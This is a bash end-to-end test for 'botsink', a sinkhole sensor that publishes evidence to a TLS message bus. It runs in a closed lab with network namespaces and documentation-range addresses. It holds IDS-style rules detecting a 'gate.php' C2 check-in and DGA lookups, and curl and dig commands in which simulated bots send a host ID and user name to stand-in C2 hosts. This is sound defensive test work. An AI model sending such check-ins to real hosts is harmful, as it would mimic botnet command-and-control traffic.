#!/bin/bash
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
# Evidence through the bus: a sensor in a veth lab publishes its counts with
# evidence (C2 lines) to a one-node TLS cluster, a hub makes the public view
# (anon none, its default evidence none) and three partners' views, and
# each is read with its own credentials (botsink pull). Real clients in the
# bots namespace (curl over IPv4 and IPv6, dig) and a real listener in the
# sink namespace that keeps the bytes it received (TCP and UDP).
# With --publish-evidence full on the sensor: the raw partner at full gets
# exactly what was sent (source port, method, URL with its query, Host,
# User-Agent with a tab, a backslash and UTF-8, Referer, DNS name, the
# payload's first 256 bytes byte for byte); the raw partner at path the
# URL and Referer without their query and no payload (no query anywhere in
# its records); the public view no evidence at all; the anonymized
# partner at full no raw source address anywhere (payloads decoded too),
# a Host that is the bot's address as its pseudonym. Then the sensor runs
# again with --publish-evidence host: the partner at full gets only what
# host allows (the sensor's level caps what a hub can show).
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=../../scripts/lab.sh
. "$ROOT/scripts/lab.sh"

command -v dig >/dev/null || {
	echo "$TEST_NAME: skipped: no dig (scripts/setup.sh installs bind9-dnsutils)"
	exit 77
}

PY=/usr/bin/python3
SINKHOLE=203.0.113.0/24,2001:db8:5::/48
VIEWS="public raw_full raw_path anon_full"
SINK_NS= BOTS_NS= SENSOR_PID= HUB_PID= SERVER_PID=

cleanup_all() {
	kill_reap "$SENSOR_PID" "$HUB_PID" "$SERVER_PID"
	[ -n "$SINK_NS" ] && ip netns del "$SINK_NS" 2>/dev/null
	[ -n "$BOTS_NS" ] && ip netns del "$BOTS_NS" 2>/dev/null
	rm -rf "/sys/fs/bpf/botsink-test-$$"
}
EXTRA_CLEANUP=cleanup_all

cat >"$WORK/rules" <<'RULES'
alert tcp any any -> 203.0.113.10 80 (msg:"Gate check-in"; content:"/gate.php"; http_uri; sid:3000001; metadata:malware_family testbot;)
alert tcp any any -> 2001:db8:5::10 80 (msg:"Gate check-in (IPv6)"; content:"/gate.php"; http_uri; sid:3000002; metadata:malware_family testbot;)
alert dns any any -> 203.0.113.53 53 (msg:"DGA lookup"; dns.query; content:"dga-example.test"; sid:3000003; metadata:malware_family testdga;)
RULES

# Every view sees every bot (verified or not: the DNS ones cannot be).
for v in "raw_full none full" "raw_path none path" "anon_full ipcrypt-pfx full"; do
	read -r name anon level <<<"$v"
	printf '[%s]\nscope = 198.18.0.0/24, 2001:db8:1::/64\nanon = %s\nverified_only = no\nevidence = %s\n\n' \
		"$name" "$anon" "$level"
done >"$WORK/partners.ini"

# ---- the cluster, the lab, the listener, the hub ----
one_sensor_cluster "bev$$" "$WORK/partners.ini"
bots() { nsenter --net="/run/netns/$BOTS_NS" "$@"; }
sink() { nsenter --net="/run/netns/$SINK_NS" "$@"; }
bots sysctl -qw net.ipv6.conf.bots0.disable_ipv6=0
bots ip addr add 2001:db8:1::2/64 dev bots0 nodad
for a in 3 5 6 7; do bots ip addr add "198.18.0.$a/24" dev bots0; done
sink ip addr add 2001:db8:1::1/64 dev sink0 nodad
bots ip route add 203.0.113.0/24 via "$LAB_LINK_SINK"
bots ip -6 route add 2001:db8:5::/48 via 2001:db8:1::1

# The listener keeps what each connection and datagram brought: "tcp|udp
# ADDR PORT HEX" per line. DNS queries are refused (an answer: dig ends).
# nsenter itself (it execs; a function would not): $! is the listener, and
# below the hub and the sensor.
nsenter --net="/run/netns/$SINK_NS" "$PY" "$ROOT/tests/e2e/evidence_listener.py" "$WORK/received" >"$WORK/server.out" 2>&1 &
SERVER_PID=$!

nsenter --net="/run/netns/$BUS_NS" "$BOTSINK" hub --nats "$NATS_URLS" --auth "$CREDS/hub.creds" \
	--ca "$CA" --partners "$WORK/partners.ini" --anon none --state-dir "$WORK/hub" --replicas 1 \
	2>>"$WORK/hub.log" &
HUB_PID=$!
for _ in $(seq 100); do grep -q "views" "$WORK/hub.log" && break; sleep 0.1; done
grep -q "views" "$WORK/hub.log" || { fail "the hub did not start: $(cat "$WORK/hub.log")"; finish; }
for _ in $(seq 50); do grep -q listening "$WORK/server.out" && break; sleep 0.1; done
grep -q listening "$WORK/server.out" || { fail "the listener did not start: $(cat "$WORK/server.out")"; finish; }

# sensor_start LEVEL: the sensor, publishing evidence at LEVEL (its own
# feed, raw and at full, only for a post-mortem).
sensor_start() {
	local n
	n=$(grep -c "counting on" "$WORK/sensor.log" 2>/dev/null)
	nsenter --net="/run/netns/$SINK_NS" "$BOTSINK" run -i sink0 -r "$WORK/rules" \
		--sinkhole "$SINKHOLE" --interval 0.3 --anon none --evidence full --feed "$WORK/feed.jsonl" \
		--pin-dir "/sys/fs/bpf/botsink-test-$$" --state-dir "$WORK/state" --sensor a \
		--publish "$NATS_URLS" --publish-auth "$CREDS/sensor-a.creds" --publish-ca "$CA" \
		--publish-evidence "$1" 2>>"$WORK/sensor.log" &
	SENSOR_PID=$!
	for _ in $(seq 300); do
		[ "$(grep -c "counting on" "$WORK/sensor.log")" -gt "${n:-0}" ] && return 0
		kill -0 "$SENSOR_PID" 2>/dev/null || break
		sleep 0.05
	done
	fail "the sensor did not start: $(tail -n 3 "$WORK/sensor.log")"
	finish
}
sensor_stop() {
	kill -TERM "$SENSOR_PID"
	wait "$SENSOR_PID"
	expect_eq "the sensor stopped by SIGTERM, publishing at $1 (exit status)" "$?" 0
	SENSOR_PID=
}

# pull: what is new on every view, each with its own credentials, at once.
pull() {
	local v user pids=()
	for v in $VIEWS; do
		user=partner-$v
		[ "$v" = public ] && user=public
		in_bus "$BOTSINK" pull --nats "$NATS_URLS" --auth "$CREDS/$user.creds" --ca "$CA" \
			--idle 0.5 >>"$WORK/pulled-$v.jsonl" 2>>"$WORK/pull.log" &
		pids+=($!)
	done
	wait "${pids[@]}"
}
CHECK=("$PY" "$ROOT/tests/nats/check_evidence.py" "$WORK")
# arrived PHASE: every view has PHASE's check-ins within 20 s (pulled again each time).
arrived() {
	local end=$((SECONDS + 20))
	until pull && "${CHECK[@]}" arrived "$1" >"$WORK/arrived.out" 2>&1; do
		[ $SECONDS -lt $end ] || break
		sleep 0.3
	done
	if "${CHECK[@]}" arrived "$1" >"$WORK/arrived.out" 2>&1; then
		pass "$1: every view has its check-ins [${SECONDS}s]"
	else
		fail "$1: $(cat "$WORK/arrived.out")"
	fi
}

UA=$'Mozilla/5.0 (Windows NT 6.1; "bot", v2)\tC:\\Users\\b\xc3\xb6t PC-1234 '"$(printf 'X%.0s' $(seq 150))"
export UA
bot_curl() { # SRC PORT CURL-ARGS...: the HTTP status
	local src=$1 port=$2
	shift 2
	bots curl -s -o /dev/null -w '%{http_code}' --max-time 3 --interface "$src" \
		--local-port "$port" "$@"
}
# received N: the listener has N connections and datagrams (5 s at most).
received() {
	for _ in $(seq 50); do [ "$(wc -l <"$WORK/received" 2>/dev/null)" = "$1" ] && return 0; sleep 0.1; done
	fail "the listener got $(wc -l <"$WORK/received" 2>/dev/null) connections and datagrams, not $1"
}

# ---- full: what the bots sent, exactly ----
start=$SECONDS
sensor_start full
out=$(bot_curl 198.18.0.2 41001 -A "$UA" -e 'http://ref.example/r?s=1#top' \
	-H 'Host: c2.example.net:8080' -d 'id=PC-1234' \
	'http://203.0.113.10/gate.php?id=PC-1234&user=alice')
out+=" $(bot_curl 198.18.0.3 41002 -A 'bot/3' -H 'Host: 198.18.0.3' \
	'http://203.0.113.10/gate.php?ip=198.18.0.3')"
out+=" $(bot_curl 2001:db8:1::2 41004 -g -A 'bot/6' 'http://[2001:db8:5::10]/gate.php?v=6')"
expect_eq "what the bots' connections got (full)" "$out" "200 200 200"
bots dig -b 198.18.0.5#41005 @203.0.113.53 +tries=1 +time=1 x1.dga-example.test TXT >/dev/null 2>&1
received 4
arrived full

# ---- host: the sensor's level caps the hub's ----
sensor_stop full
sensor_start host
out=$(bot_curl 198.18.0.6 41006 -A 'bot/e' -e 'http://ref.example/e?q=2' \
	-H 'Host: c2.example.org' -d 'k=v' 'http://203.0.113.10/gate.php?id=E-6&k=v')
expect_eq "what the bot's connection got (host)" "$out" 200
bots dig -b 198.18.0.7#41007 @203.0.113.53 +tries=1 +time=1 y2.dga-example.test A >/dev/null 2>&1
received 6
arrived host
sensor_stop host
pass "both phases in $((SECONDS - start)) s"

"${CHECK[@]}" check || fail "the views' evidence (above)"
if grep -E "not valid|skipped|another version" "$WORK/hub.log"; then
	fail "the hub refused counts"
else
	pass "the hub read every line"
fi
if grep -h "198\.18\.0\.\|2001:db8:1::" "$WORK/hub.log" "$WORK/pull.log"; then
	fail "a log names a source"
fi
kill -TERM "$HUB_PID"
wait "$HUB_PID"
expect_eq "hub stopped by SIGTERM (exit status)" "$?" 0
HUB_PID=
finish
